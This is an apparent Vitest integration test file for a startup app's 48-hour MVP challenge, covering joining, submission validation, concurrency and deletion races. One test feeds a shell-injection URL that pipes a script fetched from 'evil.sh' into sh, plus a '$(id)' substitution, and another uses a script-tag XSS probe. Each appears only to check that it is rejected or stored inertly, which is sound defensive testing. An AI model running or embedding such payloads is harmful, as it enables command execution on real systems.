import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { SubmitMvpBodySchema } from '@seedmatch/shared/challenge';
import { createClock } from '../../lib/clock';
import { eq } from 'drizzle-orm';
import { challengeParticipants, challenges, ideas, mvpSubmissions, users } from '../../db/schema/index';
import { createTestApp, type TestContext } from '../../../test/helpers/test-app';
import { bearer, signUp } from '../../../test/helpers/sign-in';
import { submitIdea } from '../../../test/helpers/factories';
import { beforeNextTransaction, deleteAccountBeforeTransaction } from '../../../test/helpers/delete-before-write';
import { createChallenge, leaveChallenge } from './challenges.service';
import { submitMvp } from './submit-mvp.service';

const clock = createClock();
let ctx: TestContext;
beforeAll(async () => {
  ctx = await createTestApp({ clock });
});
afterAll(() => ctx.close());

let people = 0;
/** A founder with one idea (an investor has none), ready to ship it. */
const founder = async (role: 'FOUNDER' | 'INVESTOR' = 'FOUNDER') => {
  people += 1;
  const person = await signUp(ctx.app, { email: `ch${people}@example.com`, name: `Challenger ${people}`, role });
  const ideaTitle = `Challenger ${people} idea`;
  const ideaId = role === 'FOUNDER' ? (await submitIdea(ctx.app, person.token, { title: ideaTitle })).id : randomUUID();
  return { ...person, ideaId, ideaTitle };
};
const current = async (token: string) => (await ctx.app.inject({ url: '/api/challenges/current', headers: bearer(token) })).json();
const post = (token: string, url: string, payload?: object) =>
  ctx.app.inject({ method: 'POST', url, headers: bearer(token), ...(payload ? { payload } : {}) });
const repo = { githubUrl: 'https://github.com/ada/seedbank', hasReadme: true, liveUrl: 'https://seedbank.dev' };
const mine = (me: { ideaId: string }) => ({ ...repo, ideaId: me.ideaId });

describe('the 48-hour challenge', () => {
  it('always has a current challenge, running for 48 hours', async () => {
    const me = await founder();
    const challenge = await current(me.token);
    expect(challenge).toMatchObject({ status: 'active', participants: 0, maxParticipants: 100, me: { joined: false, submission: null } });
    expect(new Date(challenge.endsAt).getTime() - new Date(challenge.startsAt).getTime()).toBe(48 * 3600_000);
    expect((await current(me.token)).id).toBe(challenge.id);
  });

  it('lets a founder join, locks submission for 30 minutes, then computes the credits once', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    const joined = await post(me.token, `/api/challenges/${id}/join`);
    expect(joined.json()).toMatchObject({ message: 'You joined the challenge!', challenge: { me: { joined: true } } });
    expect((await post(me.token, `/api/challenges/${id}/join`)).json().message).toBe('You are already in this challenge.');

    const early = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
    expect(early.statusCode).toBe(400);
    expect(early.json().error).toBe('You can submit your MVP 30 minutes after joining.');

    clock.advance(31 * 60_000);
    const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
    expect(submitted.statusCode).toBe(201);
    expect(submitted.json().submission).toMatchObject({ credits: 110, hasReadme: true, liveUrl: 'https://seedbank.dev' });
    const again = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
    expect(again.statusCode).toBe(409);
    expect((await post(me.token, `/api/challenges/${id}/leave`)).statusCode).toBe(400);
  });

  it('refuses bad MVP bodies with clear messages', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    for (const [body, message] of [
      [{ ideaId: me.ideaId }, 'githubUrl'],
      [{ ideaId: me.ideaId, githubUrl: '' }, 'GitHub URL is required'],
      [{ ideaId: me.ideaId, githubUrl: 'https://example.com/x' }, 'GitHub URL must be a link to a repository'],
      [{ ...mine(me), liveUrl: 'ftp://x' }, 'Live URL must be a web address'],
      [{ ...mine(me), hasReadme: 'yes' }, 'hasReadme'],
    ] as const) {
      const response = await post(me.token, `/api/challenges/${id}/submit`, body);
      expect(response.statusCode).toBe(400);
      expect(response.json().error).toContain(message);
    }
  });

  it('refuses a repository address that is more than https://github.com/{owner}/{repo}, and stores nothing', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    for (const githubUrl of [
      'https://github.com/ada/seed;curl${IFS}evil.sh|sh',
      'https://github.com/ada/seed?x=$(id)',
      'https://github.com/ada/seed/tree/main',
    ]) {
      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), githubUrl });
      expect({ status: response.statusCode, body: response.json() }).toEqual({
        status: 400,
        body: { error: 'Invalid request. githubUrl: GitHub URL must be a link to a repository: https://github.com/owner/repo' },
      });
    }
    const insecure = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), liveUrl: 'http://seedbank.dev' });
    expect(insecure.json()).toEqual({ error: 'Invalid request. liveUrl: Live URL must be a web address starting with https://' });
    expect((await current(me.token)).me.submission).toBeNull();
    const submitted = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), githubUrl: 'https://github.com/ada/seed.git' });
    expect(submitted.json().submission.githubUrl).toBe('https://github.com/ada/seed');
  });

  it('takes README text with the MVP: it earns the README credit once and comes back as typed', async () => {
    const [withText, flagOnly] = [await founder(), await founder()];
    const { id } = await current(withText.token);
    for (const me of [withText, flagOnly]) await post(me.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    const readme = '# Seedbank\n\n\tnpm install\n<script>alert(1)</script>';
    const texted = await post(withText.token, `/api/challenges/${id}/submit`, {
      ...mine(withText),
      hasReadme: false,
      readme: ` ${readme}\n`,
    });
    // The spec's client sends the flag alone, and keeps getting the same credit.
    const flagged = await post(flagOnly.token, `/api/challenges/${id}/submit`, mine(flagOnly));
    expect(texted.statusCode, texted.body).toBe(201);
    expect(texted.json().submission).toMatchObject({ hasReadme: true, readme, credits: flagged.json().submission.credits });
    expect(flagged.json().submission).toMatchObject({ hasReadme: true, readme: '' });
    expect((await current(withText.token)).me.submission).toMatchObject({ hasReadme: true, readme });
  });

  it('refuses README text that is not text, too long, or holds NUL or broken Unicode, and stores nothing', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    for (const [readme, error] of [
      ['a'.repeat(10_001), 'Invalid request. readme: README must be at most 10,000 characters'],
      ['# Seed\u0000bank', 'Invalid request. Text must not contain NUL characters.'],
      ['# Seed\ud800bank', 'Invalid request. Text must be valid Unicode.'],
    ] as const) {
      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), readme });
      expect({ status: response.statusCode, body: response.json() }).toEqual({ status: 400, body: { error } });
    }
    const notText = await post(me.token, `/api/challenges/${id}/submit`, { ...mine(me), readme: ['# Seed'] });
    expect([notText.statusCode, notText.json().error]).toEqual([400, expect.stringContaining('readme')]);
    expect((await current(me.token)).me.submission).toBeNull();
  });

  it('ships the idea the founder chose, and only one of their own that still exists', async () => {
    const me = await founder();
    const other = await founder();
    const investor = await founder('INVESTOR');
    const newest = await submitIdea(ctx.app, me.token, { title: 'Newest idea, not the one shipped' });
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    await post(investor.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    // A deleted idea: the row is gone (decks and feeds no longer have it).
    const gone = (await submitIdea(ctx.app, me.token, { title: 'Deleted idea' })).id;
    await ctx.database.db.delete(ideas).where(eq(ideas.id, gone));
    for (const [ideaId, status, error] of [
      ['not-an-id', 400, 'Invalid request. ideaId: Choose which of your ideas this MVP ships'],
      [gone, 404, 'Idea not found'],
      [other.ideaId, 403, 'You can only submit an MVP for one of your own ideas.'],
    ] as const) {
      const response = await post(me.token, `/api/challenges/${id}/submit`, { ...repo, ideaId });
      expect({ status: response.statusCode, body: response.json() }).toEqual({ status, body: { error } });
    }
    const asInvestor = await post(investor.token, `/api/challenges/${id}/submit`, { ...repo, ideaId: newest.id });
    expect({ status: asInvestor.statusCode, body: asInvestor.json() }).toEqual({
      status: 403,
      body: { error: 'Only founders can submit an MVP.' },
    });
    expect((await current(me.token)).me.submission).toBeNull();

    const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
    expect(submitted.statusCode).toBe(201);
    expect(submitted.json().submission).toMatchObject({ ideaId: me.ideaId, ideaTitle: me.ideaTitle });
    expect((await current(me.token)).me.submission).toMatchObject({ ideaId: me.ideaId, ideaTitle: me.ideaTitle });
    const profile = async () => (await ctx.app.inject({ url: `/api/founders/${me.userId}`, headers: bearer(investor.token) })).json().stats;
    expect(await profile()).toMatchObject({ projects: 2, credits: submitted.json().submission.credits });

    // The shipped idea deleted: the MVP stays in the challenge without it, and its credits leave the founder's figures.
    expect((await ctx.app.inject({ method: 'DELETE', url: `/api/ideas/${me.ideaId}`, headers: bearer(me.token) })).statusCode).toBe(200);
    expect((await current(me.token)).me.submission).toMatchObject({
      ideaId: null,
      ideaTitle: null,
      credits: submitted.json().submission.credits,
    });
    expect(await profile()).toEqual({ projects: 1, credits: 0, successRate: 0 });
  });

  it('lets a participant leave before submitting, and keeps outsiders and investors from submitting', async () => {
    const me = await founder();
    const investor = await founder('INVESTOR');
    const { id } = await current(me.token);
    expect((await post(investor.token, `/api/challenges/${id}/join`)).statusCode).toBe(403);
    expect((await post(me.token, `/api/challenges/${id}/submit`, mine(me))).statusCode).toBe(403);
    await post(me.token, `/api/challenges/${id}/join`);
    const left = await post(me.token, `/api/challenges/${id}/leave`);
    expect(left.json()).toMatchObject({ message: 'You left the challenge.', challenge: { me: { joined: false } } });
    expect((await post(me.token, '/api/challenges/00000000-0000-4000-8000-000000000000/join')).statusCode).toBe(404);
    expect((await post(me.token, '/api/challenges/not-an-id/join')).statusCode).toBe(400);
  });

  it('keeps a submitted MVP’s founder in the challenge when a leave comes at the same moment', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    const { db } = ctx.database;
    const [user] = await db.select().from(users).where(eq(users.id, me.userId));
    // Side by side, each of their statements takes turns: the leave found no MVP yet, the submit found a participant.
    const [submitted, left] = await Promise.allSettled([
      submitMvp(db, user!, id, SubmitMvpBodySchema.parse(mine(me)), clock.now()),
      leaveChallenge(db, user!, id),
    ]);
    const isIn = (await db.$count(challengeParticipants, eq(challengeParticipants.userId, me.userId))) === 1;
    const hasMvp = (await db.$count(mvpSubmissions, eq(mvpSubmissions.userId, me.userId))) === 1;
    expect({ isIn, hasMvp }).toEqual(submitted.status === 'fulfilled' ? { isIn: true, hasMvp: true } : { isIn: false, hasMvp: false });
    expect(left.status === 'fulfilled').toBe(!hasMvp);
  });

  it('never lets concurrent joins pass the cap', async () => {
    const small = await createChallenge(ctx.database.db, { startsAt: clock.now(), maxParticipants: 3 });
    const people = await Promise.all(Array.from({ length: 6 }, () => founder()));
    const results = await Promise.all(people.map((p) => post(p.token, `/api/challenges/${small.id}/join`)));
    expect(results.filter((r) => r.statusCode === 200)).toHaveLength(3);
    expect(results.filter((r) => r.statusCode === 409).map((r) => r.json().error)).toEqual(Array(3).fill('The challenge is full.'));
  });

  it('starts the next challenge when the current one ends, and closes submissions at the end', async () => {
    const me = await founder();
    const first = await current(me.token);
    await post(me.token, `/api/challenges/${first.id}/join`);
    clock.advance(49 * 3600_000);
    const late = await post(me.token, `/api/challenges/${first.id}/submit`, mine(me));
    expect(late.statusCode).toBe(400);
    expect(late.json().error).toBe('Submissions are open only while the challenge is live.');
    expect((await post(me.token, `/api/challenges/${first.id}/join`)).json().error).toBe('This challenge has ended.');
    const next = await current(me.token);
    expect(next.id).not.toBe(first.id);
    expect(next.status).toBe('active');
  });

  it('shows a future challenge as waiting, and lets founders join it early', async () => {
    await ctx.database.db.delete(challenges);
    const me = await founder();
    await createChallenge(ctx.database.db, { startsAt: new Date(clock.now().getTime() + 3600_000) });
    const waiting = await current(me.token);
    expect(waiting.status).toBe('waiting');
    const joined = await post(me.token, `/api/challenges/${waiting.id}/join`);
    expect(joined.statusCode).toBe(200);
    // Submissions open with the challenge: the time the answer gives is the start, not 30 minutes after joining.
    expect(joined.json().challenge.me.canSubmitAt).toBe(waiting.startsAt);
    clock.advance(45 * 60_000);
    const early = await post(me.token, `/api/challenges/${waiting.id}/submit`, mine(me));
    expect(early.json()).toEqual({ error: 'Submissions are open only while the challenge is live.' });
    clock.advance(15 * 60_000);
    expect((await post(me.token, `/api/challenges/${waiting.id}/submit`, mine(me))).statusCode).toBe(201);
  });

  it('answers 404 Idea not found, never a 500, when the founder deletes the idea on another device as its MVP is submitted', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    await post(me.token, `/api/challenges/${id}/join`);
    clock.advance(31 * 60_000);
    const deletion = beforeNextTransaction(ctx.database, () => ctx.database.db.delete(ideas).where(eq(ideas.id, me.ideaId)));
    const submitted = await post(me.token, `/api/challenges/${id}/submit`, mine(me));
    deletion.restore();
    expect(submitted.statusCode).toBe(404);
    expect(submitted.json()).toEqual({ error: 'Idea not found' });
    expect((await current(me.token)).me.submission).toBeNull();
  });

  it('answers 404 User not found, never a 500, to a founder deleting their account on another device as they join', async () => {
    const me = await founder();
    const { id } = await current(me.token);
    const deletion = await deleteAccountBeforeTransaction(ctx.database, me.userId);
    const joined = await post(me.token, `/api/challenges/${id}/join`);
    deletion.restore();
    expect(joined.statusCode).toBe(404);
    expect(joined.json()).toEqual({ error: 'User not found' });
  });
});
